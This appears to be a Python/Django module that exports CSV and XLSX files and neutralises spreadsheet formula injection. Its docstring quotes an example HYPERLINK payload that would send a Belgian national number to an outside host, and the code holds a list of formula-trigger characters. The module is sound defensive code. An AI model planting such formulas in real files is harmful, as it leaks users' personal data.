"""The one place that writes spreadsheets (CSV and XLSX) for every app.

Every text cell goes through ``cellule`` so that a value typed by a user or read from an imported
file can never become a live formula when the file is opened in Excel or LibreOffice ("CSV
injection", OWASP): a name ``=HYPERLINK("http://x?"&A2,"…")`` would otherwise send the NISS of
the next column to anybody. Numbers and dates stay typed cells.

- CSV: UTF-8 with BOM, ``;`` separator (what Belgian spreadsheets open directly), streamed; a text
  starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is prefixed with ``'``.
  ``reponse_csv`` for a download, ``ecrire_csv`` for a file (e.g. an import's rejects).
- XLSX: openpyxl in write-only mode (rows go to a temporary file, memory stays flat); text cells
  are written as plain strings (never as formulas) with Excel's "quote prefix" style on the
  dangerous ones, so the text shows exactly as typed and stays text when edited.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import tempfile
from collections.abc import Iterable, Sequence

from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.formats import number_format

# Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"), plus their
# full-width forms, which some spreadsheet versions also accept.
DEBUTS_DANGEREUX = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

_TYPES_NUMERIQUES = (int, float, decimal.Decimal)


def est_dangereux(texte: str) -> bool:
    return bool(texte) and texte.startswith(DEBUTS_DANGEREUX)


def cellule(value):
    """A value safe for any spreadsheet cell.

    Numbers, dates and booleans are returned unchanged (typed cells); ``None`` becomes ``""``;
    anything else becomes text, prefixed with ``'`` when a spreadsheet would read it as a formula.
    """
    if value is None:
        return ""
    if isinstance(value, (bool, *_TYPES_NUMERIQUES, datetime.date)):
        return value
    texte = str(value)
    if est_dangereux(texte):
        return "'" + texte
    return texte


def _texte_csv(value) -> str:
    value = cellule(value)
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, decimal.Decimal):
        # Belgian spreadsheets read a decimal comma.
        return number_format(value, 2)
    return str(value)


def ligne_csv(values: Iterable) -> list[str]:
    """A row of safe CSV texts (for writers that are not a response, e.g. an import's rejects)."""
    return [_texte_csv(v) for v in values]


class _Echo:
    def write(self, value):
        return value


def _lignes_csv(writer, entetes: Sequence, lignes: Iterable[Iterable]):
    yield writer.writerow(ligne_csv(entetes))
    for ligne in lignes:
        yield writer.writerow(ligne_csv(ligne))


def ecrire_csv(out, entetes: Sequence, lignes: Iterable[Iterable], separateur: str = ";") -> None:
    """Write a CSV into the text file ``out`` (e.g. an import's rejects file), every cell
    neutralised."""
    for _texte in _lignes_csv(csv.writer(out, delimiter=separateur), entetes, lignes):
        pass


def reponse_csv(
    nom_fichier: str,
    entetes: Sequence,
    lignes: Iterable[Iterable],
    separateur: str = ";",
    en_flux: bool = True,
):
    """A CSV download: UTF-8 with BOM, ``;`` (unless told), every cell neutralised; streamed,
    or in one piece when ``en_flux`` is false (a small file)."""
    writer = csv.writer(_Echo(), delimiter=separateur)

    def generate():
        yield "\ufeff"
        yield from _lignes_csv(writer, entetes, lignes)

    if en_flux:
        response = StreamingHttpResponse(generate(), content_type="text/csv; charset=utf-8")
    else:
        response = HttpResponse("".join(generate()), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{nom_fichier}"'
    return response


def _cellule_xlsx(ws, value, WriteOnlyCell):  # noqa: N803 (openpyxl's class, passed in)
    if value is None:
        return None
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.make_naive(timezone.localtime(value))
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = "DD/MM/YYYY HH:MM"
        return cell
    if isinstance(value, datetime.date):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = "DD/MM/YYYY"
        return cell
    if isinstance(value, bool):
        return WriteOnlyCell(ws, value=value)
    if isinstance(value, decimal.Decimal):
        cell = WriteOnlyCell(ws, value=float(value))
        cell.number_format = "0.00"
        return cell
    if isinstance(value, float):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = "0.00"
        return cell
    if isinstance(value, int):
        return WriteOnlyCell(ws, value=value)
    texte = str(value)
    cell = WriteOnlyCell(ws)
    # Assign the value and then the type: openpyxl would read a text starting with "=" as a
    # formula. A string cell is never evaluated; the quote prefix keeps it text when edited.
    cell._value = texte
    cell.data_type = "s"
    if est_dangereux(texte):
        cell.quotePrefix = True
    return cell


def reponse_xlsx(
    nom_fichier: str,
    titre: str,
    entetes: Sequence,
    lignes: Iterable[Iterable],
):
    """An XLSX download (one sheet, bold header row). When ``lignes`` is a list, the columns are
    sized to their content; otherwise rows are written to a temporary file as they come, in
    constant memory, and the file is streamed."""
    # Imported here, not with the module: every process loads this module at start-up (the
    # apps' exports register with it), few of them ever write a spreadsheet.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(str(titre)[:31] or "Export")
    entetes = [str(e) for e in entetes]
    if isinstance(lignes, (list, tuple)):
        largeurs = [len(e) for e in entetes]
        for ligne in lignes:
            for i, v in enumerate(ligne):
                texte = v.strftime("%d/%m/%Y") if isinstance(v, datetime.date) else str(v or "")
                if i < len(largeurs):
                    largeurs[i] = max(largeurs[i], len(texte))
                else:
                    largeurs.append(len(texte))
    else:
        largeurs = [max(len(e), 12) for e in entetes]
    for i, largeur in enumerate(largeurs, start=1):
        ws.column_dimensions[get_column_letter(i)].width = min(max(largeur + 2, 10), 40)
    gras = Font(bold=True)
    ligne_entete = []
    for e in entetes:
        cell = _cellule_xlsx(ws, e, WriteOnlyCell)
        cell.font = gras
        ligne_entete.append(cell)
    ws.append(ligne_entete)
    for ligne in lignes:
        ws.append([_cellule_xlsx(ws, v, WriteOnlyCell) for v in ligne])
    if isinstance(lignes, (list, tuple)):  # already in memory: so is the (small) file
        buffer = io.BytesIO()
        wb.save(buffer)
        response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
        response["Content-Disposition"] = f'attachment; filename="{nom_fichier}"'
        return response
    tmp = tempfile.TemporaryFile()
    wb.save(tmp)
    tmp.seek(0)
    return FileResponse(
        tmp, as_attachment=True, filename=nom_fichier, content_type=XLSX_CONTENT_TYPE
    )
